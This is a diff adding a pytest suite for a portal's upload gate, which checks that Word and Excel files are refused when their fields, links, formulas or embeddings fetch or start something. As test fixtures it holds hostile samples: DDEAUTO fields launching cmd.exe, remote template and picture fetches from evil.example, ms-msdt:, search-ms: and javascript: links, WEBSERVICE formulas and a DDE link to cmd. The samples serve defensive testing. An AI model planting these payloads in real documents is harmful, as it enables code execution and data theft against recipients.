@@ -1,0 +1,235 @@
+"""Hostile Word files and workbooks at the gate: what they would fetch or start, and where links may lead."""
+
+import io
+import zipfile
+
+import pytest
+from docx.oxml.ns import nsdecls
+
+from cica_portal import uploads
+from cica_portal.uploads import refusals
+from tests.cica_portal.test_uploads import package, relationships, types
+
+WORKBOOK = f"{uploads.SHEET_TYPE}.main+xml"
+
+
+def refusal(content: bytes) -> refusals.Refused | None:
+    try:
+        uploads.kind_of(content)
+    except refusals.Refused as refused:
+        return refused
+    return None
+
+
+def document(inside: str, part: str = "word/document.xml") -> bytes:
+    names = nsdecls("w") + ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o" xmlns:x="http://x"'
+    return package(**{part: f"<w:document {names}><w:body>{inside}</w:body></w:document>"})
+
+
+def sheet(inside: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
+    return package(**{"[Content_Types].xml": types(WORKBOOK), part: f"<worksheet>{inside}</worksheet>"})
+
+
+def sign(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def said(*pieces: str) -> str:
+    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+
+
+def complex_field(*pieces: str, result: str = "<w:r><w:t>Result</w:t></w:r>") -> str:
+    return f"<w:p>{sign('begin')}{said(*pieces)}{sign('separate')}{result}{sign('end')}</w:p>"
+
+
+FIELDS = {
+    "picture": complex_field(' INCLUDEPICTURE "https://evil.example/p.png" \\d '),
+    "text": complex_field(" includetext &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
+    "DDE": complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
+    "in pieces": complex_field(" DD", "EA", "UTO excel a b "),
+    "without a result": f"<w:p>{sign('begin')}{said(' DDE excel a b ')}{sign('end')}</w:p>",
+    "in plain words": f"<w:p>{sign('begin')}<w:r><w:t>DDE excel</w:t></w:r>{sign('end')}</w:p>",
+    "in the result of another": complex_field(" PAGE ", result=complex_field(' LINK Excel.Sheet "a.xlsx" ')),
+    "in the words of another": (
+        f"<w:p>{sign('begin')}{said(' IF ')}{complex_field(' DDE a b ')}{sign('end')}</w:p>"
+    ),
+    "named by another": f"<w:p>{sign('begin')}{complex_field(' QUOTE 68 68 69 ')}{sign('end')}</w:p>",
+    "simple": '<w:p><w:fldSimple w:instr=" DDEAUTO excel a b "/></w:p>',
+    "database": complex_field(' DATABASE \\d "c:\\\\a.mdb" '),
+    "button": complex_field(" MACROBUTTON Run Click "),
+}
+
+
+@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "customXml/other.xml"])
+@pytest.mark.parametrize("inside", FIELDS.values(), ids=FIELDS)
+def test_fields_that_fetch_or_start_something_are_refused_wherever_they_stand(inside, part):
+    assert type(refusal(document(inside, part))) is refusals.WithFields
+
+
+def test_the_refusal_names_the_field():
+    assert str(refusal(document(FIELDS["in pieces"]))) == (
+        "The file has a field that fetches or starts something outside of it (DDEAUTO). Turn the fields "
+        "into text (in Word: Ctrl+A, then Ctrl+Shift+F9), and send it again."
+    )
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        complex_field(' TOC \\o "1-3" \\h \\z '),
+        complex_field(" PAGE  \\* MERGEFORMAT "),
+        complex_field(" IF ", " 1 = 1 ") + complex_field(" DATE "),
+        complex_field(' HYPERLINK "https://www.example.org/" \\o "file:///c:/tip" \\t "_blank" '),
+        complex_field(' HYPERLINK \\l "_Toc1" '),
+        complex_field(' HYPERLINK "mailto:office@example.org" \\* MERGEFORMAT '),
+        "<w:p><w:r><w:t>DDEAUTO is a word, and INCLUDEPICTURE too.</w:t></w:r></w:p>",
+    ],
+)
+def test_fields_that_every_document_has_pass(inside):
+    assert refusal(document(inside)) is None
+
+
+OUTSIDE = {
+    "template": ("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm"),
+    "template on a host": ("word/_rels/settings.xml.rels", "attachedTemplate", r"\\evil.example\t.dotm"),
+    "picture": ("word/_rels/document.xml.rels", "image", "https://evil.example/p.png"),
+    "object": ("word/_rels/document.xml.rels", "oleObject", "file:///c:/a.xlsx"),
+    "part of a whole": ("word/_rels/document.xml.rels", "subDocument", "other.docx"),
+    "frame": ("word/_rels/webSettings.xml.rels", "frame", "https://evil.example/"),
+    "data of a letter": ("word/_rels/settings.xml.rels", "mailMergeSource", "file:///c:/people.mdb"),
+    "workbook": ("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "other.xlsx"),
+    "film": ("word/_rels/document.xml.rels", "video", "https://evil.example/v.mp4"),
+}
+
+
+@pytest.mark.parametrize(("part", "kind", "target"), OUTSIDE.values(), ids=OUTSIDE)
+def test_parts_outside_of_the_file_are_refused_and_named(part, kind, target):
+    found = refusal(package(**{part: relationships((kind, target, "External"))}))
+
+    assert type(found) is refusals.WithOutsideParts
+    assert target in str(found)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        document('<w:pict><v:shape><v:imagedata src="https://evil.example/p.png"/></v:shape></w:pict>'),
+        document(r'<w:pict><v:fill src="\\evil.example\p.png"/></w:pict>'),
+        package(**{"word/media/a.svg": '<svg><image href="https://evil.example/p.png"/></svg>'}),
+        package(**{"word/document.xml": '<?xml-stylesheet href="https://evil.example/"?><document/>'}),
+        package(**{"word/_rels/document.xml.rels": relationships(("aFChunk", "chunk.mht", ""))}),
+    ],
+)
+def test_what_is_fetched_without_a_relation_is_refused_too(content):
+    assert type(refusal(content)) is refusals.WithOutsideParts
+
+
+# Links: a person must click, and they lead to the web or to a mail address ------------------------------
+LINKS = "word/_rels/document.xml.rels"
+
+
+@pytest.mark.parametrize(
+    "target", ["https://www.example.org/", "HTTP://example.org", "mailto:a@example.org", "#a"]
+)
+def test_links_to_the_web_and_to_mail_pass(target):
+    assert refusal(package(**{LINKS: relationships(("hyperlink", target, "External"))})) is None
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        *(
+            "file:///c:/windows/system32/calc.exe",
+            r"\\evil.example\share\a.exe",
+            "//evil.example/a",
+            "annex.docx",
+        ),
+        *(
+            "javascript:alert(1)",
+            "ms-msdt:/id",
+            "search-ms:query=a",
+            "smb://evil.example/a",
+            "ftp://a.example/",
+        ),
+    ],
+)
+def test_links_that_lead_elsewhere_are_refused_and_named(target):
+    found = refusal(package(**{LINKS: relationships(("hyperlink", target, "External"))}))
+
+    assert type(found) is refusals.WithLinks
+    assert target in str(found)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        document(complex_field(' HYPERLINK "file:///c:/a.exe" ')),
+        document(complex_field(' HYPERLINK \\o "tip" "\\\\\\\\evil.example\\\\a" ')),
+        document('<w:pict><v:shape href="file:///c:/a.exe"/></w:pict>'),
+    ],
+)
+def test_links_without_a_relation_are_judged_alike(content):
+    assert type(refusal(content)) is refusals.WithLinks
+
+
+# Workbooks ----------------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (sheet("<c><f>WEBSERVICE(&quot;https://evil.example/&quot;)</f></c>"), refusals.WithFormulas),
+        (sheet("<c><f>1+_xlfn.IMAGE (A1)</f></c>"), refusals.WithFormulas),
+        (
+            sheet('<definedName name="a">rtd("a","","b")</definedName>', "xl/workbook.xml"),
+            refusals.WithFormulas,
+        ),
+        (
+            sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "xl/externalLinks/a.xml"),
+            refusals.WithData,
+        ),
+        (sheet('<oleLink progId="a"/>', "xl/externalLinks/a.xml"), refusals.WithData),
+        (sheet('<connection><dbPr connection="a"/></connection>', "xl/connections.xml"), refusals.WithData),
+        (
+            sheet('<connection><webPr url="https://a/"/></connection>', "xl/connections.xml"),
+            refusals.WithData,
+        ),
+        (document("<w:mailMerge/>", "word/settings.xml"), refusals.WithData),
+    ],
+)
+def test_what_takes_data_from_elsewhere_is_refused(content, reason):
+    assert type(refusal(content)) is reason
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        "<c><f>SUM(A1:A9)</f><v>45</v></c>",
+        "<c><f>IF(A1,&quot;WEBSERVICE(1)&quot;,MYIMAGE(2))</f></c>",
+        "<c><t>=WEBSERVICE(1)</t></c>",
+    ],
+)
+def test_workbooks_that_only_count_pass(inside):
+    assert uploads.kind_of(sheet(inside)) == "xlsx"
+
+
+# What stands inside -------------------------------------------------------------------------------------
+def test_embedded_files_pass_the_same_gate():
+    hostile = package(**{"xl/vbaProject.bin": b"x"})
+    within = package(**{"word/embeddings/a.xlsx": hostile})
+    deeper = package(**{"word/embeddings/a.docx": within})
+    programme = uploads.OLD_WORD_SIGNATURE + "\x01Ole10Native".encode("utf-16-le")
+
+    assert type(refusal(within)) is type(refusal(deeper)) is refusals.WithMacros
+    assert type(refusal(package(**{"word/embeddings/o.bin": programme}))) is refusals.WithMacros
+    assert refusal(package(**{"word/embeddings/a.xlsx": sheet("<c/>")})) is None
+    assert refusal(package(**{"word/embeddings/o.bin": uploads.OLD_WORD_SIGNATURE + b"Equation"})) is None
+
+
+def test_a_file_within_a_file_within_a_file_ends_somewhere():
+    content = package()
+    for _time in range(30):
+        stream = io.BytesIO()
+        with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as file:
+            file.writestr("a.zip", content)
+        content = stream.getvalue()
+
+    assert type(refusal(package(**{"word/embeddings/a.zip": content}))) is refusals.TooManyParts
